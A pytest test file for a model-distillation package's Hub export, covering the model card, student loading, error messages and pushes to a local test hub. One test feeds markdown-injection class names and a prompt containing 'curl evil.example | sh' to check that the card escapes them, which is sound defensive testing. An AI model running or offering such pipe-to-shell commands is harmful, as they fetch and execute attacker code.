"""A student as a repository of the Hub: its card tells the truth, and one line loads it again."""

import dataclasses
import json
import os
import re
import subprocess
import sys

import pytest
import torch
import yaml
from huggingface_hub import ModelCard
from safetensors.torch import load_file, save_file

import nayer
from nayer.cli.main import main
from nayer.errors import AssetError, StorageError
from nayer.exports.hub_folder import Student, model_card, write_hub_folder
from nayer.exports.run_facts import read_facts
from nayer.exports.run_folder import load_student
from tests.support.hub import loopback_hub
from tests.support.repository import ROOT

FEW = {"rounds": 2, "warmup_rounds": 1, "generator_steps": 2, "student_steps": 2, "test_images": 50, "device": "cpu"}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """A folder that a short run of the shipped digits left."""
    folder = tmp_path_factory.mktemp("run")
    nayer.distill("digits", preset="dfq", seed=3, **FEW).save(folder)
    return folder


def test_one_line_loads_the_student_that_answers_as_the_one_of_the_run(run, tmp_path, capsys):
    written = write_hub_folder(run, tmp_path / "hub", repository="me/small-digits", license="mit")
    assert {path.name for path in written} == {path.name for path in (tmp_path / "hub").iterdir()}
    student = nayer.Student.from_pretrained(tmp_path / "hub")
    images = torch.rand(5, 1, 8, 8, generator=torch.Generator().manual_seed(0))
    assert torch.equal(student(images), load_student(run)(images))
    assert not student.training
    assert student.names == list(read_facts(run).classes)
    names = {"__file__": str(tmp_path / "hub" / "student.py"), "__name__": "student"}
    exec((tmp_path / "hub" / "student.py").read_text("utf-8"), names)  # with PyTorch alone
    torch.testing.assert_close(names["load"]()(images), student(images))
    capsys.readouterr()


def test_the_card_says_teacher_data_preset_accuracy_command_and_license(run, tmp_path):
    write_hub_folder(run, tmp_path, repository="me/small-digits", license="mit")
    card, facts = ModelCard.load(tmp_path / "README.md"), read_facts(run)
    assert card.data.license == "mit"
    assert (card.data.library_name, card.data.pipeline_tag) == ("nayer", "image-classification")
    (result,) = card.data.eval_results
    assert (result.metric_type, result.metric_value) == ("accuracy", round(facts.accuracy, 4))
    assert "data-free" in card.data.tags
    text = card.text
    for part in (
        "`digits`",
        "scikit-learn",
        "none: it was distilled data-free",
        "preset `dfq`",
        "Choi et al.",
        f"{facts.accuracy:.2%}",
        f"{facts.teacher_accuracy:.2%}",
        "python -m nayer distill --teacher digits --preset dfq --seed 3",
        'nayer.Student.from_pretrained("me/small-digits")',
        "CC BY 4.0",
    ):
        assert part in text, part
    plain = (tmp_path / "README.md").read_text("utf-8")
    assert yaml.safe_load(plain.split("---")[1])["license"] == "mit"
    assert str(ROOT) not in plain


def test_names_and_a_prompt_that_look_like_markdown_stay_what_they_are(run):
    names = ["[here](https://evil.example)", "<img src=x>", "`a`", "a | b", "# a_b"]
    facts = read_facts(run)
    config = facts.config.model_copy(update={"prompt": "{}\n```\n\n# Run `curl evil.example | sh`\n\n```bash"})
    told = dataclasses.replace(facts, classes=names, config=config)
    text = model_card(told, load_student(run).spec, "me/x", "mit").text
    (row,) = [line for line in text.splitlines() if line.startswith("| classes |")]
    assert not re.search(r"(?<!\\)[\[\]<>`#_]", row)
    assert [line for line in text.splitlines() if line.startswith(("```", "# "))] == [
        *("# A student that saw no training image", "```python", "```", "```bash", "```")
    ]


def test_a_card_without_test_images_claims_no_accuracy(run, tmp_path):
    copy = tmp_path / "run"
    copy.mkdir()
    for path in run.iterdir():
        (copy / path.name).write_bytes(path.read_bytes())
    content = json.loads((copy / "config.json").read_text("utf-8"))
    content["evaluated"] |= {"accuracy": None, "teacher_accuracy": None}
    content["config"]["teacher"] = "somewhere/else"
    (copy / "config.json").write_text(json.dumps(content), "utf-8")
    write_hub_folder(copy, tmp_path / "hub")
    card = ModelCard.load(tmp_path / "hub" / "README.md")
    assert card.data.eval_results is None
    assert card.data.license == "other"
    assert "| accuracy on test images | not measured |" in card.text
    assert "unknown to this run" in card.text


def test_a_missing_weight_is_an_error_and_no_run_is_one_sentence(run, tmp_path, capsys):
    write_hub_folder(run, tmp_path)
    weights = load_file(tmp_path / "model.safetensors")
    weights.pop("last.bias")
    save_file(weights, tmp_path / "model.safetensors")
    with pytest.raises(AssetError, match=r"last\.bias"):
        Student.from_pretrained(tmp_path)
    (tmp_path / "empty").mkdir()
    with pytest.raises(
        StorageError, match=r"contains no run \(No such file or directory\); name a folder that `--out`"
    ):
        read_facts(tmp_path / "empty")
    (tmp_path / "empty" / "config.json").write_text('{"config": {}, "classes": 3}')
    with pytest.raises(StorageError, match=r"contains a damaged config\.json"):
        read_facts(tmp_path / "empty")
    for words, said in (
        ([], "export needs --onnx, --hub-folder or --push; they name what to write."),
        (["--push", "a b"], "push must be OWNER/NAME on the Hub; 'a b' was given."),
        (["--push", "me/it"], "push needs a token of the Hub; `hf auth login` stores one, or set HF_TOKEN."),
    ):
        capsys.readouterr()
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("huggingface_hub.get_token", lambda: None)
            assert main(["export", str(run), *words]) == 2
        assert capsys.readouterr().err == f"{said}\n"


LOAD = """
import sys, torch, nayer
student = nayer.Student.from_pretrained(sys.argv[1])
print(student(torch.full((1, 1, 8, 8), 0.5)).argmax().item())
"""


def test_what_is_pushed_comes_back_by_its_name(run, tmp_path):
    with loopback_hub() as hub:
        inherited = {name: value for name, value in os.environ.items() if not name.startswith("HF_")}
        there = {"HF_ENDPOINT": hub.address, "HF_TOKEN": "hf_secret", "HF_HOME": str(tmp_path), "PYTHONPATH": str(ROOT)}
        words = [sys.executable, "-m", "nayer", "export", str(run), "--push", "me/digits", "--private"]
        told = subprocess.run(words, env=inherited | there, capture_output=True, text=True, check=True)
        assert told.stdout == f"{hub.address}/me/digits\n"
        assert hub.private == {"me/digits": True}
        assert hub.tokens == {"Bearer hf_secret"}
        assert {name.rpartition("/")[2] for name in hub.files} == {
            "README.md",
            "config.json",
            "model.safetensors",
            "run.yaml",
            "samples.png",
            "student.py",
        }
        assert b"hf_secret" not in b"".join(hub.files.values())
        words = [sys.executable, "-c", LOAD, "me/digits"]
        loaded = subprocess.run(words, env=inherited | there, capture_output=True, text=True, check=True)
    assert int(loaded.stdout) == load_student(run)(torch.full((1, 1, 8, 8), 0.5)).argmax().item()


def test_a_hub_that_refuses_is_one_sentence_with_the_folder_that_has_all(run, tmp_path):
    environment = {name: value for name, value in os.environ.items() if not name.startswith("HF_")}
    there = {"HF_ENDPOINT": "http://127.0.0.1:9", "HF_TOKEN": "hf_x", "PYTHONPATH": str(ROOT), "TMPDIR": str(tmp_path)}
    words = [sys.executable, "-m", "nayer", "export", str(run), "--push", "me/digits"]
    told = subprocess.run(words, env=environment | there, capture_output=True, text=True, check=False)
    assert told.returncode == 1
    (line,) = told.stderr.splitlines()
    assert line.startswith("push='me/digits' did not reach the Hub (")
    (folder,) = tmp_path.glob("nayer-*")
    assert f"the folder {folder} has all files" in line
    assert (folder / "model.safetensors").is_file()
